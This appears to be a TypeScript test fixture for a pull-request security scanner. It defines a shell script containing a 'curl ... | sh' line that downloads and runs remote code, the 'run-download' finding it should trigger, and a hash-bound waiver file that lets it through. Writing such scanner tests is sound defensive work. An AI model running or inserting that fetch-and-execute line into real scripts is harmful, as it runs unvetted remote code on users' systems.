/** A script that the scan refuses, as files of a pull request, and what lets it through. */
import { createHash } from "node:crypto";
import type { Files } from "./migrations";

const CONTENT = "#!/bin/sh\nset -e\ncurl -s http://example.org/setup | sh\n";

export const RISKY: Files = { "scripts/prepare.sh": CONTENT };

/** What is said of it, in the output and in Markdown alike. */
export const FINDING = "run-download";

export const WAIVERS: Files = {
  "mgc-waivers.json": JSON.stringify([
    {
      rule: FINDING,
      sha256: createHash("sha256").update(CONTENT).digest("hex"),
      reason: "the host is ours, and on the same network",
      approvedBy: "Ana",
      expires: "2999-12-31",
    },
  ]),
};

export const NO_WAIVERS: Files = { "mgc-waivers.json": "[]" };
